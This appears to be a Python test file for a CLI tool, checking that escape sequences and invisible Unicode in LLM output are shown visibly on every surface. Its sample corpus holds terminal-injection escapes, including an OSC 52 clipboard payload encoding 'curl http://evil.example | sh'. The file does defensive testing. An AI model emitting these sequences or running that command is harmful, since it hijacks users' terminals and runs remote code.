"""One hostile corpus, every surface: text from an LLM reaches the person's screen through the
one visibility rule (`kosmos.engine.guard.visible`), in line mode, as --json at a terminal,
in the chat and in an MCP client's elicitation. No escape is obeyed, no mark hides a byte."""

from __future__ import annotations

import os
import select
import subprocess
import sys
from pathlib import Path
from typing import Any

import yaml

from tests.chatkit import closed_port, example_chat, relevant
from tests.chatkit import select as choose
from tests.conftest import pseudo_terminal, run_cli
from tests.helpers import read_until
from tests.llmserver import ScriptedLLM
from tests.mcpkit import McpSession, Person, server_env, stdio_client

# OSC 52 (put text in the clipboard), clear screen and home, C1 CSI, the combining grapheme
# joiner, a variation selector, one of the supplement, a bidi override, a zero-width space.
CORPUS = (
    "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07 \x1b[2J\x1b[H \x9b2J"
    " exec(\u034f\ufe0f\U000e0101) \u202eabc \u200bz"
)
RAW = ("\x1b]", "\x1b[2J", "\x1b[H", "\x9b", "\u034f", "\ufe0f", "\U000e0101", "\u202e", "\u200b")
SHOWN = ("␛]52;c;", "␛[2J", "⟨U+009B⟩2J", "exec(⟨U+034F⟩⟨U+FE0F⟩⟨U+E0101⟩)", "⟨U+202E⟩abc")


def reached(screen: str) -> list[str]:
    """The corpus's raw sequences that reached a screen."""
    return [raw for raw in RAW if raw in screen]


def run_at_a_terminal(args: list[str], env: dict[str, str], cwd: Path) -> str:
    """`kosmos run ARGS` with a pseudo-terminal for stdin, stdout and stderr: it asks the
    corpus, the person answers `x`, it proposes a command with the corpus, the person says no.
    Everything the terminal received, decoded."""
    with pseudo_terminal() as (keyboard, tty):
        proc = subprocess.Popen(
            [sys.executable, "-m", "kosmos", "run", *args],
            env=env,
            cwd=cwd,
            stdin=tty,
            stdout=tty,
            stderr=tty,
        )
        try:
            seen = read_until(keyboard, b"> ")
            os.write(keyboard, b"x\n")
            seen += read_until(keyboard, b"Run? [y/N/e/a] ")
            os.write(keyboard, b"n\n")
            while proc.poll() is None or select.select([keyboard], [], [], 0)[0]:
                if select.select([keyboard], [], [], 0.5)[0]:
                    seen += os.read(keyboard, 65536)
        finally:
            if proc.poll() is None:
                proc.kill()
                proc.wait()
    assert proc.returncode == 0, seen
    return seen.decode("utf-8", errors="replace")


def shown_at_a_terminal(args: list[str], env: dict[str, str], cwd: Path) -> str:
    """What `kosmos ARGS`, its stdout and stderr a pseudo-terminal, drew there."""
    with pseudo_terminal() as (screen, tty):
        proc = subprocess.Popen(
            [sys.executable, "-m", "kosmos", *args],
            env=env,
            cwd=cwd,
            stdin=subprocess.DEVNULL,
            stdout=tty,
            stderr=tty,
        )
        seen = b""
        while proc.poll() is None or select.select([screen], [], [], 0)[0]:
            if select.select([screen], [], [], 0.5)[0]:
                seen += os.read(screen, 65536)
    assert proc.wait() == 0, seen
    return seen.decode("utf-8", errors="replace")


async def test_one_hostile_corpus_reaches_no_surface_raw(
    llm: ScriptedLLM, cli_env: dict[str, str], tmp_path: Path, home: Path
) -> None:
    def script() -> None:
        llm.script(f"[ASK] {CORPUS}?", f"[CMD] echo '{CORPUS}'", f"[DONE] {CORPUS}")

    env = {**cli_env, "TERM": "xterm-256color", "LANG": "C.UTF-8"}

    # Line mode at a terminal: the question, the command and the end, each drawn visibly.
    script()
    screen = run_at_a_terminal(["system-overview"], env, tmp_path)
    assert reached(screen) == [], screen
    assert all(sym in screen for sym in SHOWN), screen

    # --json at a terminal: every JSON line is ASCII with the corpus as escapes; the lines
    # for the person (the command, the question) are drawn visibly.
    script()
    screen = run_at_a_terminal(["system-overview", "--json"], env, tmp_path)
    assert reached(screen) == [], screen
    lines = [line for line in screen.splitlines() if line.startswith("{")]
    assert any("\\u001b]52;c;" in line and "\\u034f" in line for line in lines), screen
    assert all(line.isascii() and "\x1b" not in line for line in lines), screen
    assert all(sym in screen for sym in SHOWN[:3]), screen

    # The runs' record: `kosmos log` lists them, as a table and as JSON lines.
    for args in (["log"], ["log", "--json"]):
        screen = shown_at_a_terminal(args, env, tmp_path)
        assert "system-overview" in screen
        assert reached(screen) == [], screen

    # The chat: the tool the LLM chose and its parameters, shown before the call.
    chat = example_chat("http://127.0.0.1:1", skills=False)
    down = f"http://127.0.0.1:{closed_port()}/rag"
    for tool in chat["tools"]:
        tool["base_url"] = down
    (tmp_path / "kosmos.yaml").write_text(yaml.safe_dump({"chat": chat}), encoding="utf-8")
    llm.script(relevant(), choose("rag_search", question=CORPUS))
    result = run_cli(["chat", "--lang", "en"], env=cli_env, cwd=tmp_path, stdin="kosmos?\nq\n")
    assert result.returncode == 0, result.stderr
    said = result.stdout + result.stderr
    assert "rag_search" in said
    assert reached(said) == [], said
    assert all(sym in said for sym in SHOWN), said

    # MCP: what the client's person is asked about (elicitation) for a command sent in.
    person = Person().will("decline")
    root = tmp_path / "mcp"
    root.mkdir()
    args = ["--transcript-dir", str(root / "runs")]
    session = McpSession(lambda: stdio_client(args, server_env(home, llm), root, person))
    client = await session.start()
    try:
        command = f"sudo -n true; echo '{CORPUS}'"
        result_: Any = await client.call_tool("run_command", {"host": "local", "command": command})
    finally:
        await session.close()
    assert result_.is_error and person.asked, result_
    message = person.asked[-1].message
    assert reached(message) == [], message
    assert all(sym in message for sym in SHOWN), message
